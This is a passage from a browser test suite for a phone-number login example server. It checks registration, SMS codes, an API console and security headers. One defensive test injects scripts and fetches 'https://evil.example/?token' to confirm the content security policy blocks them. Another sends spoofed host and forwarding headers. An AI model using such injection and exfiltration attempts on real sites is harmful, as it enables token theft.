// The example server's page in a browser, as a person uses it.

import assert from 'node:assert/strict';
import {writeFileSync} from 'node:fs';
import {request} from 'node:http';
import {networkInterfaces} from 'node:os';
import {join} from 'node:path';
import {alert, audit, browser, button, codeField, field, fits, openPage, look, nothingWasWrong, press, section, status, title} from './browser.mjs';
import {check, finish, person, scratch, secret, skip, startServer, wrong} from './harness.mjs';

const settings = join(scratch, 'settings.json');
writeFileSync(settings, JSON.stringify({resend_cooldown: 4, max_sends_per_transaction: 2, max_sends_per_client_and_hour: 0}));
const operatorToken = secret('the token of those who run the server'.replaceAll(' ', '-'));
const server = await startServer([], {PHONEAUTH_SETTINGS: settings});
const open = (hash = '', options = {}, url = server.url) => openPage(url + '/' + hash, options);

// The first step of a section; to register, a person also says who they are.
async function fillIn(page, {phone, email, password, name}) {
  await field(page, 'Phone number').fill(phone);
  if (!await section(page).locator('[name=identity]:visible').count()) return;
  await field(page, 'Email').fill(email);
  await field(page, 'Password').fill(password);
  await field(page, 'Name').fill(name ?? '');
}

async function askForCode(page, who) {
  await fillIn(page, who);
  const {code} = await server.codeFor(who.phone, () => press(page, 'Send the code'));
  await codeField(page).waitFor();
  return code;
}

async function logIn(page, who) {
  await codeField(page).fill(await askForCode(page, who));
  await press(page, 'Log in');
  await title(page, 'Your account');
}

async function register(page, who) {
  await codeField(page).fill(await askForCode(page, who));
  await press(page, 'Create the account');
  await title(page, 'Your account is ready');
}

const ada = {...person(), name: 'Ada'};
const messages = (page) => page.getByRole('list', {name: 'Messages'}).getByRole('listitem');

await check('a clear start, and where the messages are', async () => {
  const page = await open();
  await title(page, 'Your phone is your account');
  await page.getByText('it plays Twilio, and no real phone gets a message').waitFor();
  await look(page, 'start');
  await section(page).getByRole('link', {name: 'Create an account'}).click();
  await title(page, 'Create an account');
  await look(page, 'register');
  await page.goBack();
  await title(page, 'Your phone is your account');
  await section(page).getByRole('link', {name: 'Log in'}).click();
  await title(page, 'Log in');
  await page.close();
});

await check('what keeps people out is found', async () => {
  const page = await open('#/register');
  await title(page, 'Create an account');
  assert.deepEqual(await audit(page), []);
  await page.evaluate(() => {
    document.documentElement.removeAttribute('lang');
    document.querySelector('#register .hint').style.color = '#aaa';
    const input = document.querySelector('#register .first input');
    input.closest('label').replaceWith(input);
    document.querySelector('#register .first button').style.minHeight = '20px';
    document.activeElement.blur();
  });
  const found = (await audit(page)).join('\n');
  for (const each of [/^html-has-lang: /m, /^color-contrast: .*hint/m, /^label: .*phone/m, /^a target of /m, /^nothing has the focus$/m]) assert.match(found, each);
  await page.close();
});

await check('a strict content security policy', async () => {
  const reply = await fetch(server.url + '/');
  assert.equal(reply.status, 200);
  assert.match(reply.headers.get('content-type'), /^text\/html; charset=utf-8$/i);
  const policy = reply.headers.get('content-security-policy');
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /script-src 'sha256-/);
  assert.doesNotMatch(policy, /unsafe|\*|https?:/);
  for (const directive of ["connect-src 'self'", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'"])
    assert.ok(policy.split('; ').includes(directive), directive);
  assert.equal(reply.headers.get('x-frame-options'), 'DENY');
  assert.equal(reply.headers.get('cross-origin-opener-policy'), 'same-origin');
  assert.equal(reply.headers.get('cross-origin-resource-policy'), 'same-origin');
  assert.match(reply.headers.get('permissions-policy'), /camera=\(\)/);
  assert.equal(reply.headers.get('set-cookie'), null);
});

await check('what is injected does not run', async () => {
  const page = await browser.newPage(); // its complaints are expected
  await page.goto(server.url);
  const expected = ['base-uri', 'connect-src', 'frame-src', 'script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem'];
  const tried = await page.evaluate(async (directives) => {
    const violations = new Set();
    const all = new Promise((resolve) => {
      setTimeout(resolve, 10_000);
      addEventListener('securitypolicyviolation', (event) => {
        violations.add(event.effectiveDirective);
        if (directives.every((each) => violations.has(each))) resolve();
      });
    });
    const add = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
    add('script', {textContent: 'window.ran = "script"'});
    add('script', {src: 'data:text/javascript,window.ran="data"'});
    add('div', {innerHTML: '<img src="data:," onerror="window.ran = `handler`"><p style="color: red">'});
    add('style', {textContent: 'body { display: none }'});
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
    const sent = await fetch('https://evil.example/?token').then(() => 'sent', () => 'not sent');
    const frame = Object.assign(document.createElement('iframe'), {src: location.href});
    document.body.append(frame);
    await all;
    return {ran: window.ran, sent, base: document.baseURI, shown: getComputedStyle(document.body).display, violations: [...violations].sort()};
  }, expected);
  assert.deepEqual(tried.violations, expected);
  assert.equal(tried.ran, undefined);
  assert.equal(tried.sent, 'not sent');
  assert.ok(tried.base.startsWith(server.url), tried.base);
  assert.equal(tried.shown, 'block');
  assert.deepEqual(await browser.cookies(), [], 'the page uses no cookies');
  await page.close();
});

await check('registration: error texts, then the account', async () => {
  const page = await open('#/register');
  await press(page, 'Send the code');
  await alert(page, 'Phone number is missing.');
  await look(page, 'register-missing');
  await fillIn(page, {...ada, phone: '12'});
  await press(page, 'Send the code');
  await alert(page, /phone number.*error 14001/i);
  assert.equal(await field(page, 'Phone number').getAttribute('aria-invalid'), 'true');
  assert.deepEqual(await section(page).locator('input:visible').evaluateAll((all) => all.map((e) => [e.name, e.type, e.autocomplete])),
    [['phone', 'tel', 'tel'], ['identity', 'email', 'email'], ['password', 'password', 'new-password'], ['name', 'text', 'name']]);

  const code = await askForCode(page, ada);
  assert.deepEqual(await section(page).locator('input:visible').evaluateAll((all) => all.map((e) => e.name)), ['code'], 'one task at a time');
  await page.locator('[name=code]:focus').waitFor();
  await look(page, 'register-code');
  assert.equal(await codeField(page).getAttribute('autocomplete'), 'one-time-code');
  assert.equal(await codeField(page).getAttribute('inputmode'), 'numeric');
  await press(page, 'Create the account');
  await alert(page, 'Code is missing.');
  await codeField(page).fill(wrong(code));
  await press(page, 'Create the account');
  await alert(page, /code is wrong.*4 tries left.*error 14021/);
  await look(page, 'register-wrong-code');
  await page.goBack();
  await field(page, 'Phone number').and(page.locator(':focus')).waitFor();
  assert.equal(await field(page, 'Email').inputValue(), ada.email);
  assert.equal(await codeField(page).count(), 0, 'one task at a time');
  await page.goForward();
  await codeField(page).fill(code);
  await press(page, 'Create the account');
  await title(page, 'Your account is ready');
  await section(page).getByText('Welcome, Ada.').waitFor();
  await look(page, 'register-done');
  await section(page).getByRole('link', {name: 'Log in'}).click();
  await title(page, 'Log in');
  assert.equal(await field(page, 'Phone number').inputValue(), ada.phone);
  await page.goBack();
  await page.goBack();
  await title(page, 'Create an account');
  await field(page, 'Email').waitFor();
  assert.match(page.url(), /#\/register$/, 'what is done is not begun again');
  await page.close();
});

await check('what is wrong in the first step is put right there, with the same code', async () => {
  const who = person();
  const page = await open('#/register');
  const code = await askForCode(page, {...who, email: 'nobody', password: 'short'});
  const from = server.lines.length;
  await codeField(page).fill(code);
  await press(page, 'Create the account');
  await alert(page, /email.*error 3040/i);
  await field(page, 'Email').and(page.locator('[aria-invalid]:focus')).waitFor();
  await look(page, 'register-email');
  await field(page, 'Email').fill(who.email);
  await press(page, 'Create the account');
  await alert(page, /password.*error 14010/i);
  await field(page, 'Password').and(page.locator('[aria-invalid]:focus')).waitFor();
  await field(page, 'Password').fill(who.password);
  await press(page, 'Create the account');
  await title(page, 'Your account is ready');
  assert.equal(server.lines.slice(from).filter((line) => line.startsWith(`message to ${who.phone}`)).length, 0, 'no other code was sent');
  await page.close();
});

await check('the SMS on the phone that is drawn: sender, text, delivery; one press fills the code in', async () => {
  await browser.grantPermissions(['clipboard-read', 'clipboard-write'], {origin: server.url});
  const who = person();
  const page = await open('#/register'), bystander = await open('#/register');
  assert.equal(await messages(page).count(), 0, 'what came before the page was opened');
  const code = await askForCode(page, who);
  const sms = messages(page).filter({hasText: who.phone});
  await sms.waitFor();
  const text = await sms.innerText();
  for (const each of ['+15005550006', code, 'is your code to sign up', `To ${who.phone}`, 'Delivered']) assert.ok(text.includes(each), `${each} in ${text}`);
  await look(page, 'sms', sms);
  await sms.getByRole('button', {name: 'Copy'}).click();
  await status(page, 'Copied.');
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), code);
  await sms.getByRole('button', {name: `Fill in ${code}`}).click();
  assert.equal(await codeField(page).inputValue(), code);
  await button(page, 'Create the account').and(page.locator(':focus')).waitFor();
  await page.keyboard.press('Enter');
  await title(page, 'Your account is ready');
  assert.equal(await page.getByRole('button', {name: /^Fill in/}).locator('visible=true').count(), 0, 'no step asks for it any more');
  assert.ok(!(await page.locator('#wire').innerText()).includes(code));
  await bystander.close();
  await page.close();
});

await check('what the server does not offer is not shown', async () => {
  const page = await open('#/login');
  await title(page, 'Log in');
  assert.equal(await page.getByText('Forgotten your password?').isVisible(), false);
  await page.goto(server.url + '/#/reset');
  await title(page, 'Your phone is your account');
  await page.goto(server.url + '/#/done');
  await title(page, 'Your phone is your account'); // nobody has registered
  assert.equal(await page.title(), 'Your phone is your account – phoneauth');
  await page.close();
});

await check('an email address that is taken', async () => {
  const page = await open('#/register');
  await codeField(page).fill(await askForCode(page, {...ada, phone: person().phone}));
  await press(page, 'Create the account');
  await alert(page, /already exists.*error 3033/);
  await field(page, 'Email').and(page.locator('[aria-invalid]:focus')).waitFor();
  await page.close();
});

await check('login with a code; the account; a property; logout', async () => {
  const page = await open('#/login');
  const code = await askForCode(page, ada);
  await codeField(page).fill(wrong(code));
  await press(page, 'Log in');
  await alert(page, /4 tries left/);
  await look(page, 'login-code');
  await codeField(page).fill(code.slice(0, 3) + ' ' + code.slice(3));
  await press(page, 'Log in');
  await title(page, 'Your account');
  await status(page, 'You are logged in.');
  await look(page, 'account');
  const facts = await page.locator('#user').innerText();
  assert.match(facts, new RegExp(ada.email));
  assert.match(facts, /user-token\s+[0-9A-F]{8}….{4}(\s|$)/);

  assert.equal(await section(page).getByText(/trusted? (this )?device/i).locator('visible=true').count(), 0);
  await press(page, 'Still valid?');
  await status(page, 'Yes, the session is valid.');
  await page.reload();
  await title(page, 'Your account');

  await section(page).getByText('Change a property').click();
  await field(page, 'Property').fill('city');
  await field(page, 'Value').fill('London');
  await press(page, 'Save');
  await status(page, 'Saved.');
  assert.match(await page.locator('#user').innerText(), /city\s+London/);
  await press(page, 'Reload');
  await status(page, 'Reloaded.');
  assert.match(await page.locator('#user').innerText(), /city\s+London/);
  await field(page, 'Property').fill('phoneNumber');
  await field(page, 'Value').fill('+15005559999');
  await press(page, 'Save');
  await alert(page, /error 8008/);
  await look(page, 'account-property', section(page).getByRole('alert').filter({hasText: '8008'}));
  await field(page, 'Property').fill('city');
  await field(page, 'Value').fill('null');
  await press(page, 'Save');
  await status(page, 'Saved.');
  assert.doesNotMatch(await page.locator('#user').innerText(), /city/);

  await press(page, 'Log out');
  await status(page, 'You are logged out.');
  await look(page, 'login-logged-out');
  await title(page, 'Log in');
  await page.close();
});

await check('login with password and code', async () => {
  const page = await open('#/login');
  await section(page).getByLabel('Password and code').check();
  await field(page, 'Phone number').fill(ada.phone);
  await section(page).locator('input[name=password]').fill('not my password');
  await press(page, 'Send the code');
  await alert(page, /Invalid login or password.*error 3003/);
  await look(page, 'login-password');
  await section(page).locator('input[name=password]').fill(ada.password);
  await logIn(page, ada);
  await page.close();
});

// ---- The console ----

const description = await (await fetch(server.url + '/openapi.json')).json();
const described = Object.entries(description.paths).flatMap(([path, methods]) => Object.entries(methods).map(([method, o]) => ({...o, path, method: method.toUpperCase()})));
const outcome = (page) => page.locator('#outcome');
const parameter = (page, name) => section(page).locator(`#attempt-fields [name="${name}"]`);
const sendRequest = (page) => press(page, 'Send the request');

async function openOperation(page, id) {
  await page.goto(`${server.url}/#/console/${id}`);
  await title(page, described.find((o) => o.operationId === id).summary);
}

await check('the console has every route of openapi.json, each with a form', async () => {
  const page = await open();
  await page.getByRole('link', {name: 'Console', exact: true}).click();
  await title(page, 'Console');
  await page.locator('.operation').first().waitFor();
  const listed = await page.locator('.operation').evaluateAll((all) => all.map((a) => ['.method', '.path', 'b'].map((each) => a.querySelector(each).textContent).join(' ')));
  assert.deepEqual(listed.sort(), described.map((o) => `${o.method} ${o.path} ${o.summary}`).sort());
  assert.ok(listed.length > 20, listed.length);
  await look(page, 'console');
  for (const {operationId, summary, parameters = [], requestBody, path, method} of described) {
    await page.evaluate((id) => { location.hash = '#/console/' + id; }, operationId);
    await title(page, summary);
    await page.locator('#operation-target').filter({hasText: `${method}/api${path}`}).waitFor();
    const [{schema} = {schema: {}}] = Object.values(requestBody?.content ?? {});
    const {properties = {}} = schema.oneOf?.[0] ?? schema;
    const names = await page.locator('#attempt-fields').locator('input, textarea').evaluateAll((all) => all.map((e) => e.name).filter((name) => !name.startsWith('More')));
    assert.deepEqual(names, [...parameters.map((p) => p.name), ...Object.keys(properties)], operationId);
  }
  await page.goBack();
  await title(page, described.at(-2).summary);
  await page.goto(server.url + '/#/console/nothing');
  await title(page, 'Console');
  await page.close();
});

await check('the console: messages, tokens, questions', async () => {
  const page = await open('#/login');
  await logIn(page, ada);
  const token = secret(JSON.parse(await page.evaluate(() => sessionStorage.getItem('phoneauth')))['user-token']);
  await openOperation(page, 'sendMessage');
  await parameter(page, 'phoneNumber').fill('');
  await sendRequest(page);
  await alert(page, 'phoneNumber is missing.');
  await look(page, 'operation');
  await parameter(page, 'phoneNumber').fill('+15005550006');
  await sendRequest(page);
  await outcome(page).filter({hasText: /"code": 8007/}).waitFor();
  await parameter(page, 'message').fill('Grüße');
  await parameter(page, 'mediaUrl').fill('http://example.com/a.png');
  await sendRequest(page);
  await page.getByRole('heading', {name: 'Request and reply 400'}).and(page.locator(':focus')).waitFor();
  assert.match(await outcome(page).innerText(), /"code": 14003/);
  await parameter(page, 'mediaUrl').fill('https://example.com/a.png');
  await parameter(page, 'options').fill('{');
  await sendRequest(page);
  await alert(page, 'options is not JSON.');
  await parameter(page, 'options').and(page.locator('[aria-invalid]:focus')).waitFor();
  await look(page, 'operation-json');
  await parameter(page, 'options').fill('{"ValidityPeriod": 600}');
  const {text} = await server.message('+15005550006', () => sendRequest(page));
  assert.match(text, /Grüße/);
  await outcome(page).filter({hasText: /"sid": "(SM|MM)/}).waitFor();
  const shown = await outcome(page).innerText();
  for (const each of ['POST /api/services/Twilio/sendMessage', 'user-token: •••', 'content-type: application/json', '"message": "Grüße"', '"ValidityPeriod": 600', 'cache-control: no-store'])
    assert.ok(shown.includes(each), `${each} in ${shown}`);
  await messages(page).filter({hasText: 'Media: https://example.com/a.png'}).waitFor();
  await look(page, 'operation-sent', page.locator('#outcome-title'));
  await parameter(page, 'phoneNumber').fill('+15005550004');
  await sendRequest(page);
  await outcome(page).filter({hasText: /"code": 14030[^]*"twilioCode": 21610/}).waitFor();

  await openOperation(page, 'isValidUserToken');
  assert.equal(await parameter(page, 'token').inputValue(), token, 'the current token is filled in');
  await sendRequest(page);
  await outcome(page).filter({hasText: /no-store\s+true/}).waitFor();
  await parameter(page, 'token').fill('nonsense');
  await sendRequest(page);
  await outcome(page).filter({hasText: /no-store\s+false/}).waitFor();
  await openOperation(page, 'info');
  await sendRequest(page);
  await outcome(page).filter({hasText: '"rtURL"'}).waitFor();
  await openOperation(page, 'describeUserClass');
  await sendRequest(page);
  await outcome(page).filter({hasText: '"identity": true'}).waitFor();
  await openOperation(page, 'updateUser');
  await field(page, 'More members').fill('{"city": "London"}');
  await sendRequest(page);
  await outcome(page).filter({hasText: /PUT \/api\/users\/[0-9A-F-]{36}[^]*"city": "London"/}).waitFor();
  await openOperation(page, 'messageStatus');
  for (const each of ['X-Twilio-Signature', 'transaction', 'send', 'MessageSid', 'MessageStatus']) await parameter(page, each).fill('x');
  await sendRequest(page);
  await outcome(page).filter({hasText: /messageStatus\?transaction=x&send=x\s[^]*x-www-form-urlencoded\s+MessageSid=x&MessageStatus=x[^]*403/i}).waitFor();

  await page.getByText('On the wire').click();
  const wire = await page.locator('#wire').textContent();
  assert.match(wire, /POST \/api\/services\/Twilio\/sendMessage/);
  await look(page, 'wire', page.locator('#wire'));
  assert.ok(!wire.includes(token), 'the token is left out');
  await page.close();
});

await check('the console: a login; secrets are hidden, shown by a press, and gone after the logout', async () => {
  const who = person();
  const page = await open('#/register');
  await register(page, who);
  await page.goto(server.url + '/#/console/listSessions');
  await title(page, "The user's sessions and trusted devices");
  await section(page).getByText('This takes a session').waitFor();
  await look(page, 'operation-no-session');
  await sendRequest(page);
  await outcome(page).filter({hasText: /"code": 3064/}).waitFor();
  await openOperation(page, 'loginWithPhoneNumberAndPassword');
  await parameter(page, 'phoneNumber').fill(who.phone);
  await parameter(page, 'password').fill(who.password);
  const {code} = await server.codeFor(who.phone, () => sendRequest(page));
  await outcome(page).filter({hasText: '"transactionId"'}).waitFor();
  assert.match(await outcome(page).innerText(), /"password": "•••"/);
  assert.ok(!(await page.content()).includes(who.password));
  await openOperation(page, 'loginWithCode');
  assert.match(await parameter(page, 'transactionId').inputValue(), /^[0-9A-F-]{36}$/, 'it is known');
  await messages(page).getByRole('button', {name: `Fill in ${code}`}).click();
  await sendRequest(page);
  await status(page, 'the page uses this session');
  const token = secret(JSON.parse(await page.evaluate(() => sessionStorage.getItem('phoneauth')))['user-token']);
  const shows = async () => {
    const text = await outcome(page).innerText();
    return [text.includes(token), text.includes(`"code": "${code}"`)];
  };
  assert.deepEqual(await shows(), [false, false]);
  const toggle = outcome(page).getByRole('button', {name: 'Show secrets'});
  assert.equal(await toggle.getAttribute('aria-pressed'), 'false');
  await toggle.click();
  assert.deepEqual(await shows(), [true, true]);
  assert.equal(await toggle.getAttribute('aria-pressed'), 'true');
  await look(page, 'operation-secrets', toggle);
  await toggle.click();
  assert.deepEqual(await shows(), [false, false]);
  await toggle.click();
  await openOperation(page, 'listSessions');
  await section(page).getByText('is sent along').waitFor();
  await sendRequest(page);
  await outcome(page).filter({hasText: '"current": true'}).waitFor();
  await openOperation(page, 'logout');
  await sendRequest(page);
  await page.getByRole('heading', {name: 'Request and reply 200'}).waitFor();
  assert.equal(await page.evaluate(() => sessionStorage.getItem('phoneauth')), null);
  await page.getByText('On the wire').click();
  assert.equal(await page.getByRole('button', {name: 'Show secrets'}).count(), 0);
  const html = await page.content();
  for (const each of await page.locator('input, textarea').evaluateAll((all) => all.map((e) => e.value))) assert.ok(![token, who.password].includes(each));
  for (const each of [token, who.password]) assert.ok(!html.includes(each), 'whoever comes next learns nothing');
  await page.close();
});

// ---- Configuration ----

const operators = (page) => page.getByRole('heading', {name: 'Can codes be sent?'});

const testConfiguration = async (page, token) => {
  await field(page, "Operators' token").fill(token);
  await press(page, 'Test configuration');
};

await check('operators test the configuration: the right one', async () => {
  const own = await startServer(['--fake-twilio', 'fine'], {PHONEAUTH_SETTINGS: settings, PHONEAUTH_OPERATOR_TOKEN: operatorToken});
  const page = await open('#/start', {}, own.url);
  await page.getByRole('link', {name: 'Configuration'}).click();
  await title(page, 'Configuration');
  const operator = page.locator('#operator');
  await press(page, 'Test configuration');
  await alert(page, "Operators' token is missing.");
  await testConfiguration(page, 'not the token');
  await alert(page, /token is missing or wrong.*error 14013/);
  assert.equal(await operator.locator('[name=token]').getAttribute('aria-invalid'), 'true');
  await look(page, 'configuration-token', operators(page));
  assert.match(await page.locator('#configured').innerText(), /Messages go through\s+A Twilio that the server plays[^]*property\s+phoneNumber/);
  await testConfiguration(page, operatorToken);
  await status(page, 'Codes can be sent.');
  await page.locator('#report-title:focus').waitFor();
  const findings = await page.getByRole('list', {name: 'What was found'}).getByRole('listitem').allInnerTexts();
  for (const name of ['destinations', 'segments', 'callback', 'region', 'connection', 'clock', 'credentials', 'key', 'account', 'sender', 'sms', 'mms', 'countries', 'look-up'])
    assert.equal(findings.filter((text) => new RegExp(`^(OK|Note)\\s+${name}: `).test(text)).length, 1, `${name} among ${findings.join('\n')}`);
  await press(page, 'Test configuration');
  await alert(page, /has just been tested\. Wait \d+ s\./);
  await look(page, 'configuration-again', operators(page));
  assert.equal(await page.locator('#findings:visible').count(), 0, 'what is old is gone');
  await page.getByText('On the wire').click();
  const wire = await page.locator('#wire').textContent();
  assert.match(wire, /GET \/operator\/test-configuration/);
  assert.ok(!(await page.content()).includes(operatorToken), 'the token is nowhere on the page');
  assert.equal(await page.evaluate(() => JSON.stringify([{...sessionStorage}, {...localStorage}])), '[{},{}]');
  await page.close();
  await own.stop();
});

await check('operators test the configuration: what is wrong comes with its remedy', async () => {
  const own = await startServer(['--fake-twilio', 'sender-without-sms'], {PHONEAUTH_SETTINGS: settings, PHONEAUTH_OPERATOR_TOKEN: operatorToken});
  const page = await open('#/start', {}, own.url);
  await page.getByRole('link', {name: 'Configuration'}).click();
  await title(page, 'Configuration');
  await testConfiguration(page, operatorToken);
  await status(page, /^Codes cannot be sent: 1 of 14 checks failed\. \d\snotes?\.$/);
  const finding = page.locator('#findings li').filter({hasText: 'Failed'});
  assert.match(await finding.innerText(), /^Failed\s+sms: The sender cannot send SMS\.\s+Set twilio\.sender to a number that can\.$/);
  await look(page, 'configuration-wrong', operators(page));
  await page.setViewportSize({width: 360, height: 740});
  assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), 'nothing is wider than the screen');
  await page.close();
  await own.stop();
});

await check('operators without a token are told how to have one', async () => {
  const page = await open('#/configuration');
  await title(page, 'Configuration');
  await section(page).getByText(/the server has no token for them: start it with\s+PHONEAUTH_OPERATOR_TOKEN/).waitFor();
  assert.equal(await button(page, 'Test configuration').count(), 0);
  assert.equal((await fetch(server.url + '/operator/test-configuration', {headers: {authorization: `Bearer ${operatorToken}`}})).status, 404);
  await look(page, 'configuration-none', operators(page));
  await page.close();
});

await check('a session that ended elsewhere', async () => {
  const page = await open('#/login');
  await logIn(page, ada);
  const token = secret(JSON.parse(await page.evaluate(() => sessionStorage.getItem('phoneauth')))['user-token']);
  await fetch(server.url + '/api/users/logout', {headers: {'user-token': token}});
  await press(page, 'Still valid?');
  await status(page, 'not valid any more');
  await look(page, 'account-invalid');
  await press(page, 'Reload');
  await title(page, 'Log in');
  await alert(page, /error 3064/);
  await look(page, 'login-ended');
  await page.close();
});

await check('a code that arrives', async () => {
  const page = await open('#/register');
  const code = await askForCode(page, person());
  const progress = section(page).locator('.progress:visible');
  await progress.filter({hasText: /^It was delivered\. 5 tries left, [45]:\d\d min\.$/}).waitFor();
  await look(page, 'register-delivered');
  await codeField(page).fill(wrong(code));
  await press(page, 'Create the account');
  await progress.filter({hasText: '4 tries left'}).waitFor();
  await page.close();
});

await check('a code that does not arrive; what a person writes meanwhile stays', async () => {
  const page = await open('#/register', {clock: true});
  await askForCode(page, {...person(), phone: '+15005553006'});
  await codeField(page).pressSequentially('12');
  const progress = section(page).locator('.progress:visible');
  await progress.filter({hasText: /^It was not delivered\. The phone number is a landline.*\(Twilio 30006\)/}).waitFor();
  const lost = messages(page).filter({hasText: 'To +15005553006'});
  assert.match(await lost.innerText(), /^\+15005550006[^]*A message was not delivered\.[^]*Undelivered, Twilio 30006$/);
  assert.equal(await lost.getByRole('button').count(), 0, 'there is no code on the phone');
  await look(page, 'register-not-delivered');
  const asked = await page.locator('#wire li').count();
  const polls = [];
  page.on('response', (response) => { if (response.url().endsWith('/transactionStatus')) polls.push(response.status()); });
  while (polls.length < 2) await page.waitForResponse(/transactionStatus/);
  assert.equal(await codeField(page).inputValue(), '12');
  assert.equal(await page.evaluate(() => document.activeElement.name), 'code');
  assert.equal(await page.locator('#wire li').count(), asked, 'only news are shown');
  await press(page, 'Start again');
  let asking = 0;
  page.on('request', () => { asking += 1; });
  await page.clock.runFor(20_000);
  assert.equal(asking, 0, 'nothing more is asked');
  await page.close();
});

await check('a login by code does not tell whether it arrives', async () => {
  const page = await open('#/login');
  await field(page, 'Phone number').fill('+15005553003');
  await press(page, 'Send the code');
  await codeField(page).waitFor();
  const progress = section(page).locator('.progress:visible');
  await page.waitForResponse(/transactionStatus/);
  await page.waitForResponse(/transactionStatus/);
  assert.match((await progress.innerText()).trim(), /^5 tries left, [45]:\d\d min\.$/);
  await page.close();
});

await check('send again: countdown, a second message, the cap', async () => {
  const who = person();
  const page = await open('#/register');
  const code = await askForCode(page, who);
  const again = button(page, /^Send again/);
  assert.match(await again.innerText(), /^Send again in [1-4] s$/);
  assert.equal(await again.getAttribute('aria-disabled'), 'true');
  await section(page).getByRole('button', {name: 'Send again', exact: true}).waitFor();
  const {code: second} = await server.codeFor(who.phone, () => again.click());
  assert.equal(second, code, 'the same code');
  await status(page, 'sent again');
  await section(page).getByRole('button', {name: 'Send again', exact: true}).click();
  await alert(page, /error 14028/);
  await look(page, 'register-sent-again');
  await press(page, 'Start again');
  assert.equal(await field(page, 'Phone number').inputValue(), who.phone);
  await page.close();
});

await check('too many wrong codes', async () => {
  const page = await open('#/login');
  const code = await askForCode(page, ada);
  for (const left of ['4 tries left', '3 tries left', '2 tries left', '1 try left']) {
    await codeField(page).fill(wrong(code));
    await press(page, 'Log in');
    await alert(page, left);
  }
  await codeField(page).fill(wrong(code));
  await press(page, 'Log in');
  await alert(page, /error 1402[14]/);
  await codeField(page).fill(code);
  await press(page, 'Log in');
  await alert(page, /start again.*error 14024/);
  await button(page, 'Start again').and(page.locator(':focus')).waitFor();
  await look(page, 'login-too-many');
  await page.close();
});

await check('by keyboard alone', async () => {
  const who = person();
  const page = await open('#/start');
  const focused = () => page.evaluate(() => document.activeElement.name || document.activeElement.textContent.trim());
  const tabTo = async (name) => {
    for (let i = 0; i < 20; ++i) {
      if (await focused() === name) return;
      await page.keyboard.press('Tab');
    }
    assert.fail(`no way to ${name} by Tab; the focus is on ${await focused()}`);
  };
  await tabTo('Create an account');
  await page.keyboard.press('Enter');
  await title(page, 'Create an account');
  assert.equal(await focused(), 'Create an account');
  for (const [name, text] of [['phone', who.phone], ['identity', who.email], ['password', who.password]]) {
    await tabTo(name);
    await page.keyboard.type(text);
  }
  const {code} = await server.codeFor(who.phone, () => page.keyboard.press('Enter'));
  await page.locator('[name=code]:focus').waitFor();
  await page.keyboard.type(wrong(code));
  await page.keyboard.press('Enter');
  await page.locator('[name=code][aria-invalid]:focus').waitFor();
  await tabTo(`Fill in ${code}`);
  await page.keyboard.press('Enter');
  await tabTo('Create the account'); // the focus is there
  await page.keyboard.press('Enter');
  await title(page, 'Your account is ready');
  await tabTo('Log in');
  await page.keyboard.press('Enter');
  await title(page, 'Log in');
  assert.equal(await focused(), 'Log in');
  await tabTo('way');
  await page.keyboard.press('ArrowDown');
  await tabTo('phone');
  assert.equal(await page.locator('[name=phone]:focus').inputValue(), who.phone);
  await tabTo('password');
  await page.keyboard.type(who.password);
  const second = await server.codeFor(who.phone, () => page.keyboard.press('Enter'));
  await page.locator('[name=code]:focus').waitFor();
  await page.keyboard.type(second.code);
  await page.keyboard.press('Enter');
  await title(page, 'Your account');
  await tabTo('Log out');
  await page.keyboard.press('Enter');
  await status(page, 'logged out');
  await page.close();
});

await check('on a phone', async () => {
  const who = person();
  const page = await open('#/register', {viewport: {width: 360, height: 740}});
  const usable = async () => assert.deepEqual(await fits(page), []);
  await usable();
  await register(page, who);
  await usable();
  await section(page).getByRole('link', {name: 'Log in'}).click();
  const code = await askForCode(page, who);
  await usable();
  await codeField(page).fill(code);
  await press(page, 'Log in');
  await title(page, 'Your account');
  await usable();
  await page.getByRole('link', {name: 'Console', exact: true}).click();
  await page.locator('.operation').first().waitFor();
  await usable();
  for (const id of ['register', 'loginWithPhoneNumberAndPassword', 'messageStatus']) {
    await openOperation(page, id);
    await usable();
  }
  await page.getByRole('link', {name: 'Configuration'}).click();
  await title(page, 'Configuration');
  await usable();
  await page.close();
});

await check('the phone as identity, under a name of its own', async () => {
  const file = join(scratch, 'identity.json');
  writeFileSync(file, JSON.stringify({phone_column: 'mobile', identity_column: 'mobile'}));
  const other = await startServer([], {PHONEAUTH_SETTINGS: file});
  const who = person();
  const page = await open('#/register', {}, other.url);
  await field(page, 'Email').waitFor({state: 'hidden'}); // nobody is asked for another identity
  await field(page, 'Phone number').fill(who.phone);
  await field(page, 'Password').fill(who.password);
  await look(page, 'register-phone-alone');
  const {code} = await other.codeFor(who.phone, () => press(page, 'Send the code'));
  await codeField(page).fill(code);
  await press(page, 'Create the account');
  await section(page).getByRole('link', {name: 'Log in'}).click();
  await title(page, 'Log in');
  const login = await other.codeFor(who.phone, () => press(page, 'Send the code'));
  await codeField(page).fill(login.code);
  await press(page, 'Log in');
  await title(page, 'Your account');
  assert.match(await page.locator('#user').innerText(), /mobile\s+\+1500/);
  await page.close();
  await other.stop();
});

await check('messages are for browsers on this machine', async () => {
  const own = await startServer(['--hosts', 'any', '--allow-origin', 'any', '--trusted-proxy', '127.0.0.1'], {});
  const ask = (headers, method = 'GET') => new Promise((resolve, reject) => {
    const {hostname, port} = new URL(own.url);
    request({hostname, port, path: '/fake/messages', method, headers}, (reply) => {
      reply.resume();
      resolve({status: reply.statusCode, headers: reply.headers});
    }).on('error', reject).end();
  });
  for (const headers of [{}, {host: 'localhost'}, {host: 'LOCALHOST:80'}, {host: '[::1]:80'}]) {
    const reply = await ask(headers);
    assert.equal(reply.status, 200, JSON.stringify(headers));
    assert.equal(reply.headers['cache-control'], 'no-store');
    assert.equal(reply.headers['access-control-allow-origin'], undefined);
  }
  for (const headers of [{host: 'evil.example'}, {host: 'localhost.evil.example'}, {'x-forwarded-for': '203.0.113.7'}, {'x-forwarded-for': '127.0.0.1'}, {forwarded: 'for=203.0.113.7'}, {via: '1.1 a'}])
    assert.equal((await ask(headers)).status, 404, JSON.stringify(headers));
  const cross = await ask({origin: 'https://evil.example'});
  assert.equal(cross.headers['access-control-allow-origin'], undefined, 'no page of another origin reads them');
  assert.equal(cross.headers['cross-origin-resource-policy'], 'same-origin');
